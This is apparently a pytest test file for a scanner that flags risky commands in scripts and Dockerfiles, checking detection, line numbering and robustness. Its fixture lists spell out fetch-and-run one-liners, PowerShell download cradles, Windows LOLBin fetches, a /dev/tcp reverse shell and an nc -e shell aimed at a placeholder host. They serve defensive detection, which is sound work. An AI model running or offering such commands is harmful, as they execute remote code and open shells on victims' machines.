import pytest
from hypothesis import given
from hypothesis import strategies as st

from weighbridge.core import Effect
from weighbridge.intake import commands

FETCHED = [
    "curl -fsSL https://e.org/x | sh",
    "curl https://e.org/x|bash",
    "wget -qO- https://e.org/x | sudo -E bash -",
    "RUN apt-get update && curl -s https://e.org/x | python3 -",
    'RUN ["sh", "-c", "curl https://e.org/x | sh"]',
    'bash -c "$(curl -fsSL https://e.org/x)"',
    "bash <(curl -s https://e.org/x)",
    "eval `wget -O - https://e.org/x`",
    "source <(curl -s https://e.org/x)",
    "/usr/bin/curl https://e.org/x | tee log | /bin/sh",
    "  - curl https://e.org/x | sh",
    'command: "curl https://e.org/x | sh"',
    "curl https://e.org/x \\\n  -o - \\\n  | sh",
    "curl -o /tmp/a.sh https://e.org/x\nchmod +x /tmp/a.sh\n/tmp/a.sh",
    "wget https://e.org/get.sh && bash get.sh",
    "wget https://e.org/get.py?raw=1\npython get.py",
    "irm https://e.org/x | iex",
    "iex ((New-Object System.Net.WebClient).DownloadString('https://e.org/x'))",
    'powershell -c "IEX(iwr https://e.org/x)"',
    "@echo off\ncertutil -urlcache -f https://e.org/a.bat a.bat\ncall a.bat",
]

OTHER = {
    "echo aGk= | base64 -d | sh": Effect.DYNAMIC,
    "base64 --decode x | bash": Effect.DYNAMIC,
    "powershell -nop -enc SQBFAFgAIAAoAGkAdwByACAA": Effect.DYNAMIC,
    "sh -i >& /dev/tcp/e.org/1 0>&1": Effect.NETWORK,
    "nc e.org 1 -e /bin/sh": Effect.NETWORK,
    "certutil.exe -urlcache -f https://e.org/a a.exe": Effect.NETWORK,
    "mshta https://e.org/a.hta": Effect.NETWORK,
    "regsvr32 /s /n /u /i:https://e.org/a.sct scrobj.dll": Effect.NETWORK,
    "pip install --index-url https://e.org/simple torch": Effect.NETWORK,
    "uv pip install --extra-index-url=http://e.org a": Effect.NETWORK,
    "pip install -i https://e.org/simple torch": Effect.NETWORK,
}

SILENT = [
    "curl -O https://e.org/weights.bin",
    "curl -s https://e.org/x | jq .tag_name",
    "curl -s https://e.org/x | python -m json.tool",
    "curl -s https://e.org/x | python parse.py",
    "curl -s https://e.org/x | tar xz",
    "wget https://e.org/x.tar.gz && tar xf x.tar.gz",
    "which curl || echo none",
    "# curl https://e.org/x | sh",
    "rem nothing\n:: curl https://e.org/x | sh",
    "apt-get install -y curl wget",
    "base64 -d key.b64 > key",
    "cat x | base64 | sh.log",
    "pip install torch --index-url https://download.pytorch.org/whl/cu121",
    "pip install -r requirements.txt",
    "grep -i https://e.org log",
    "nc -z localhost 80",
    "python train.py --fetch data | tee log",
    "docker run -e FOO=aaaaaaaaaaaaaaaaaaaaaaaa -i image",
]


def effects(text):
    return {deed.effect for deed in commands.deeds(text)}


@pytest.mark.parametrize("text", FETCHED)
def test_what_is_fetched_and_run_is_told(text):
    assert effects(text) == {Effect.NETWORK, Effect.DYNAMIC}


@pytest.mark.parametrize("text", OTHER)
def test_what_else_reaches_out_is_told(text):
    assert effects(text) == {OTHER[text]}


@pytest.mark.parametrize("text", SILENT)
def test_what_people_write_is_silent(text):
    assert not commands.deeds(text)


def test_lines_are_counted_from_where_they_begin():
    text = "FROM a\nRUN b \\\n  && c\nRUN curl https://e.org/x \\\n | sh\n"
    assert {deed.line for deed in commands.deeds(text)} == {4}
    assert {deed.line for deed in commands.deeds(text, 10)} == {13}


@pytest.mark.parametrize(
    "piece",
    ["curl|", "curl ", "iex ", "iwr iex ", "$(", "`curl ", "http://", "-e ", "nc -", "a|sh ",
     "\\\n", "curl a|sh\n", "wget http://e/a;./a;", "-i ", "&&", "base64 ", "curl -o a b\n",
     "powershell "],
)  # fmt: skip
def test_no_line_takes_long(piece):
    found = commands.deeds("curl x\n" + piece * (400_000 // len(piece)))
    assert len(found) <= commands.MOST


def test_no_more_commands_are_looked_at_than_bytes_allow(monkeypatch):
    looked, command = [], commands._command
    monkeypatch.setattr(commands, "_command", lambda stage: looked.append(stage) or command(stage))
    text = "curl a\n" * 50_000
    (deed,) = commands.deeds(text)
    assert deed.effect is Effect.UNREADABLE
    assert len(looked) <= 4 * (commands.FEW + len(text) // commands.EACH)


@given(st.text(max_size=60), st.sampled_from([*FETCHED, *OTHER, *SILENT]))
def test_any_text_is_survived(text, line):
    commands.deeds(text + line)
    commands.deeds(line[: len(text)] + text)
